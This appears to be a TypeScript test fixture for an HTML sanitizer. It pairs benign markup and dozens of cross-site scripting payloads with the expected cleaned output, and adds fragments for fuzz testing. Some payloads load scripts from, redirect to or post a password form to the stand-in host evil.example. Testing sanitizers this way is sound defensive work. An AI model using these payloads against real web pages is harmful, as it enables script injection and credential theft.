import fc from 'fast-check'

/** HTML as an administrator words it: kept to the letter. */
export const ORDINARY: readonly string[] = [
  '<p>One <strong>two</strong> <em>three</em>.</p>',
  '<h3>Title</h3><ul><li>a</li><li>b</li></ul><ol><li>c</li></ol>',
  '<p><a href="https://example.org/x?a=1&amp;b=2">out</a> <a href="/help">in</a> <a href="mailto:a@b.example">mail</a></p>',
  '<p>First line<br>second line</p>',
  '<p><a href="#top">up</a> and <a href="/help/who-sees-what?from=a#b">on</a></p>',
  'Fish &amp; chips, 5 &lt; 6, café, 10\u201320 %',
  '<ul><li>a<ul><li>b</li></ul></li></ul>',
  '<p>"Quoted" and \'quoted\'</p>',
  '',
]

/** HTML that wants something, with what is left of it: the shapes that such attempts take, each in words of our own. */
export const HOSTILE: readonly (readonly [html: string, left: string])[] = [
  // Elements that run or fetch.
  ['<script>steal()</script><p>x</p>', '<p>x</p>'],
  ['<SCRIPT SRC=//evil.example/a.js></SCRIPT>x', 'x'],
  ['<script>never closed', ''],
  ['x</script>y', 'xy'],
  ['<script type="module">import "//evil.example"</script>x', 'x'],
  ['<img src=x onerror=steal()>y', 'y'],
  ['<img/src="x"/onerror=steal()>y', 'y'],
  ['<IMG SRC="javascript:steal()">y', 'y'],
  ['<video><source onerror="steal()"></video>y', 'y'],
  ['<audio src=x onerror=steal()></audio>y', 'y'],
  ['<iframe src="javascript:steal()"></iframe>y', 'y'],
  ['<iframe srcdoc="&lt;script&gt;steal()&lt;/script&gt;">hidden</iframe>y', 'y'],
  ['<object data="data:text/html,x">hidden</object>y', 'y'],
  ['<embed src="//evil.example/x.swf">y', 'y'],
  ['<link rel=stylesheet href="//evil.example/x.css">y', 'y'],
  ['<meta http-equiv=refresh content="0;url=//evil.example">y', 'y'],
  ['<base href="//evil.example/"><a href="/help">x</a>', '<a href="/help">x</a>'],
  ['<style>p{background:url(//evil.example)}</style>x', 'x'],
  ['<template><p>hidden</p></template>x', 'x'],
  // Handlers and styles on what is permitted.
  ['<p onclick="steal()">x</p>', '<p>x</p>'],
  ['<strong onmouseover=steal()>x</strong>', '<strong>x</strong>'],
  ['<em style="position:fixed;inset:0">x</em>', '<em>x</em>'],
  ['<p id="login" class="button" data-x="1" aria-label="y">x</p>', '<p>x</p>'],
  ['<h3 tabindex=0 autofocus onfocus=steal()>x</h3>', '<h3>x</h3>'],
  ['<li/onclick=steal()>x</li>', '<li>x</li>'],
  ['<p\nonclick\n=\nsteal()>x</p>', '<p>x</p>'],
  ['<a href="/help" ping="//evil.example" target=_top rel=opener>x</a>', '<a href="/help">x</a>'],
  ['<p is="x-widget" slot="a">x</p>', '<p>x</p>'],
  // Where links lead.
  ['<a href="javascript:steal()">x</a>', '<a>x</a>'],
  ['<a href="JaVaScRiPt:steal()">x</a>', '<a>x</a>'],
  ['<a href="  javascript:steal()">x</a>', '<a>x</a>'],
  ['<a href="java\tscript:steal()">x</a>', '<a>x</a>'],
  ['<a href="java&#10;script:steal()">x</a>', '<a>x</a>'],
  ['<a href="&#106;avascript:steal()">x</a>', '<a>x</a>'],
  ['<a href="&#x6A&#x61vascript:steal()">x</a>', '<a>x</a>'],
  ['<a href="javascript&colon;steal()">x</a>', '<a>x</a>'],
  ['<a href="vbscript:steal()">x</a>', '<a>x</a>'],
  ['<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<a>x</a>'],
  ['<a href="//evil.example">x</a>', '<a>x</a>'],
  ['<a href="/\\evil.example">x</a>', '<a>x</a>'],
  ['<a href="https://a.example\\@evil.example">x</a>', '<a>x</a>'],
  ['<a title="href=https://a.example" href="http://b.example">x</a>', '<a>x</a>'],
  ['<a xlink:href="javascript:steal()">x</a>', '<a>x</a>'],
  // Other languages, forms, and markup that is read twice.
  ['<svg><script>steal()</script></svg>z', 'z'],
  ['<svg onload=steal()>z', ''],
  ['<math><mi//xlink:href="data:x,<script>steal()</script>"></math>z', 'z'],
  ['<form action="//evil.example"><input name="password">Sign in</form>', 'Sign in'],
  ['<textarea><p>hidden</textarea>x', 'x'],
  ['<!-- hidden <script>steal()</script> -->x', 'x'],
  ['<scr<script></script>ipt>steal()</script>', 'ipt&gt;steal()'],
  ['<p>open <strong>both', '<p>open <strong>both</strong></p>'],
  ['<p title="><img src=x onerror=steal()>">x</p>', '<p>x</p>'],
  ['a < b & c > d', 'a &lt; b &amp; c &gt; d'],
  ['&lt;script&gt;steal()&lt;/script&gt;', '&lt;script&gt;steal()&lt;/script&gt;'],
]

/** What a parser that follows no browser reads otherwise than a browser does; with what the server leaves of it. */
export const READ_DIFFERENTLY: readonly (readonly [html: string, left: string])[] = [
  ['<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>x', 'x'],
  ['<![CDATA[<p>x</p>]]>', ''],
]

const PIECES = [
  ...['<', '>', '"', "'", '&', '/', '<p>', '</p>', '<a href=', 'javascript:', '<script>', '</script>', '<!--', '-->'],
  ...['onerror=', 'x', ' ', '<svg', '<li>', '</li>', '<strong>', '\0', 'https://a.example', '<scr', 'ipt>', '<br>'],
  ...[
    '<ul>',
    '</ul>',
    '<h3>',
    '</h3>',
    '</a>',
    '</strong>',
    '<div>',
    '<table>',
    '<template>',
    '<math>',
    '<style>',
    '&lt;',
  ],
]

/** Fragments of markup in any order. */
export const messyHtml = fc.array(fc.constantFrom(...PIECES), { maxLength: 30 }).map(parts => parts.join(''))
